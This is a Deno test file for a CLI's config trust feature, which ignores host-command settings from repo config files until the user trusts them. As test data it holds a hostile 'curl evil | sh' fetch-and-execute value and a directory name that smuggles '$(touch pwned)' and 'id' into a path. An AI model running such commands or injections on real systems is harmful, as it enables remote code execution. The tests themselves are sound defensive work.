/** `tachikoma config trust` through the real CLI (`deno run main.ts config …`). */
import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { runCli } from "../cli/helpers.ts";
import { sha256Hex } from "../../../src/config/trust_store.ts";
import { git, makeWorld } from "./helpers.ts";

const UNTRUSTED_TAIL = "(not trusted; review the file, then run `tachikoma config trust`)";

Deno.test("cli: config trust / --list / --revoke, with the warning line before and after", async () => {
  const w = makeWorld();
  try {
    const cfg = `${w.root}/cfg`;
    const env = { HOME: w.home, TACHIKOMA_CONFIG_DIR: cfg };
    const run = (...args: string[]) => runCli(args, { cwd: w.repo, env });

    const nothing = await run("config", "trust");
    assertEquals(nothing.code, 2);
    assertStringIncludes(nothing.stderr, "there is nothing to trust: neither");

    const file = w.write(
      "repo/.tachikoma.toml",
      'vm_cpus = 3\ncredential_command = "touch /tmp/x"\n[tart]\nbinary = "/opt/tart"\n',
    );
    const before = await run("config", "get", "credential_command");
    assertEquals(before.code, 0, before.stderr);
    assertEquals(before.stdout, "");
    assertEquals(
      before.stderr,
      `warning: ignoring credential_command, tart.binary from ${file} ${UNTRUSTED_TAIL}\n`,
    );
    const shown = JSON.parse((await run("config", "--json")).stdout);
    assertEquals(shown.config.vm_cpus, 3);
    assertEquals(shown.ignored.map((i: { key: string }) => i.key), [
      "credential_command",
      "tart.binary",
    ]);

    const hash = await sha256Hex(Deno.readFileSync(file));
    const trusted = await run("config", "trust");
    assertEquals(trusted.code, 0, trusted.stderr);
    assertEquals(trusted.stderr, "");
    assertEquals(
      trusted.stdout,
      `trusted ${file} (sha256 ${hash.slice(0, 12)}); it sets:\n` +
        `  credential_command = "touch /tmp/x"  (runs a command on the host)\n` +
        `  tart.binary = "/opt/tart"  (runs a program on the host)\n`,
    );
    const after = await run("config", "get", "credential_command");
    assertEquals([after.stdout, after.stderr], ["touch /tmp/x\n", ""]);
    const again = await run("config", "trust", "--json");
    assertEquals(JSON.parse(again.stdout).trusted[0].previous, "same");

    const list = JSON.parse((await run("config", "trust", "--list", "--json")).stdout);
    assertEquals(list.trusted.length, 1);
    assertEquals(list.trusted[0].file, file);
    assertEquals(list.trusted[0].sha256, hash);
    assertEquals(list.trusted[0].status, "trusted");
    assertMatch(list.trusted[0].trusted_at, /^\d{4}-\d\d-\d\dT/);

    Deno.writeTextFileSync(file, "# edited\n", { append: true });
    const stale = await run("config", "trust", "--list");
    assertMatch(stale.stdout, /^FILE\s+SHA256\s+TRUSTED AT\s+STATUS\n/);
    assertStringIncludes(stale.stdout, `${file}  ${hash.slice(0, 12)}  `);
    assert(stale.stdout.trimEnd().endsWith("changed"), stale.stdout);
    const ignoredAgain = await run("config", "get", "tart.binary");
    assertEquals(ignoredAgain.stdout, "");
    assertStringIncludes(ignoredAgain.stderr, "ignoring credential_command, tart.binary");

    const revoked = await run("config", "trust", "--revoke");
    assertEquals(
      revoked.stdout,
      `revoked ${file}\n${w.repo}/.tachikoma.local.toml was not trusted\n`,
    );
    assertEquals((await run("config", "trust", "--list")).stdout, "nothing is trusted\n");
    const both = await run("config", "trust", "--list", "--revoke");
    assertEquals(both.code, 2);
  } finally {
    w.cleanup();
  }
});

Deno.test("cli: config trust refuses worktree files, other files and invalid files; trusts nothing then", async () => {
  const w = makeWorld();
  try {
    const env = { HOME: w.home, TACHIKOMA_CONFIG_DIR: `${w.root}/cfg` };
    w.write("repo/README", "x\n");
    git(w.repo, "add", "README");
    git(w.repo, "commit", "-q", "-m", "init");
    const wt = `${w.root}/repo-feat`;
    git(w.repo, "worktree", "add", "-q", "-b", "feat", wt);
    const mainFile = w.write("repo/.tachikoma.local.toml", 'api_key_command = "pass x"\n');
    w.write("repo-feat/.tachikoma.toml", 'api_key_command = "evil"\n');

    const inWorktree = await runCli(["config", "trust", ".tachikoma.toml"], { cwd: wt, env });
    assertEquals(inWorktree.code, 2);
    assertStringIncludes(inWorktree.stderr, "repo config comes only from the top of the main");
    assertStringIncludes(inWorktree.stderr, "never from a worktree");
    const other = await runCli(["config", "trust", "README"], { cwd: w.repo, env });
    assertEquals(other.code, 2);
    assertStringIncludes(other.stderr, "is not a repo config file");

    // From the worktree, the default is the main checkout's files.
    const fromWt = await runCli(["config", "trust", "--json"], { cwd: wt, env });
    assertEquals(fromWt.code, 0, fromWt.stderr);
    assertEquals(JSON.parse(fromWt.stdout).trusted.map((t: { file: string }) => t.file), [
      mainFile,
    ]);
    const value = await runCli(["config", "get", "api_key_command"], { cwd: wt, env });
    assertEquals(value.stdout, "pass x\n");

    w.write("repo/.tachikoma.toml", "vm_cpus = 'four'\n");
    const bad = await runCli(["config", "trust", ".tachikoma.toml"], { cwd: w.repo, env });
    assertEquals(bad.code, 2);
    assertStringIncludes(bad.stderr, ".tachikoma.toml:1: vm_cpus: expected integer");
    const list = JSON.parse(
      (await runCli(["config", "trust", "--list", "--json"], { cwd: w.repo, env })).stdout,
    );
    assertEquals(list.trusted.map((t: { file: string }) => t.file), [mainFile]);
  } finally {
    w.cleanup();
  }
});

Deno.test("cli: config set keeps a trusted file trusted, leaves an untrusted one untrusted, trusts a new one", async () => {
  const w = makeWorld();
  try {
    const env = { HOME: w.home, TACHIKOMA_CONFIG_DIR: `${w.root}/cfg` };
    const run = (...args: string[]) => runCli(args, { cwd: w.repo, env });
    // New file: its whole content is the user's.
    const created = await run("config", "set", "credential_command", "pass new", "--local");
    assertEquals(created.code, 0, created.stderr);
    assertEquals(created.stderr, "");
    assertEquals((await run("config", "get", "credential_command")).stdout, "pass new\n");

    // Untrusted file (a clone's): a set through tachikoma does not trust the rest of it.
    w.write("repo/.tachikoma.toml", 'api_key_command = "curl evil | sh"\n');
    const set = await run("config", "set", "egress_allow", "pypi.org", "--repo");
    assertEquals(set.code, 0, set.stderr);
    assertStringIncludes(set.stderr, "is not trusted: egress_allow from it takes effect only");
    const shown = JSON.parse((await run("config", "--json")).stdout);
    assertEquals(shown.config.egress_allow, []);
    assertEquals(shown.config.api_key_command, undefined);

    // Trusted, then edited through tachikoma: still trusted, new content included.
    assertEquals((await run("config", "trust")).code, 0);
    const edit = await run("config", "set", "vm_cpus", "6", "--repo", "--json");
    assertEquals(JSON.parse(edit.stdout).trusted, true);
    const now = JSON.parse((await run("config", "--json")).stdout);
    assertEquals(now.config.vm_cpus, 6);
    assertEquals(now.config.api_key_command, "curl evil | sh");
    assertEquals(now.ignored, []);
  } finally {
    w.cleanup();
  }
});

Deno.test("cli: hostile repo paths: trust, list and revoke by name", async () => {
  const w = makeWorld();
  try {
    const env = { HOME: w.home, TACHIKOMA_CONFIG_DIR: `${w.root}/cfg` };
    const dir = `${w.root}/it's "q" $(touch pwned) \`id\` ünï 🚀`;
    Deno.mkdirSync(dir);
    git(dir, "init", "-q", "-b", "main");
    const file = `${dir}/.tachikoma.toml`;
    Deno.writeTextFileSync(file, 'credential_command = "x"\n');
    const trusted = await runCli(["config", "trust", file, "--json"], { cwd: w.root, env });
    assertEquals(trusted.code, 0, trusted.stderr);
    assertEquals(JSON.parse(trusted.stdout).trusted[0].file, file);
    const list = await runCli(["config", "trust", "--list"], { cwd: w.root, env });
    assertStringIncludes(list.stdout, file);
    const revoked = await runCli(["config", "trust", "--revoke", file, "--json"], {
      cwd: w.root,
      env,
    });
    assertEquals(JSON.parse(revoked.stdout), { revoked: [{ file, revoked: true }] });
    assertEquals(Deno.readDirSync(w.root).toArray().some((e) => e.name === "pwned"), false);
    assertEquals(Deno.readDirSync(dir).toArray().some((e) => e.name === "pwned"), false);
  } finally {
    w.cleanup();
  }
});
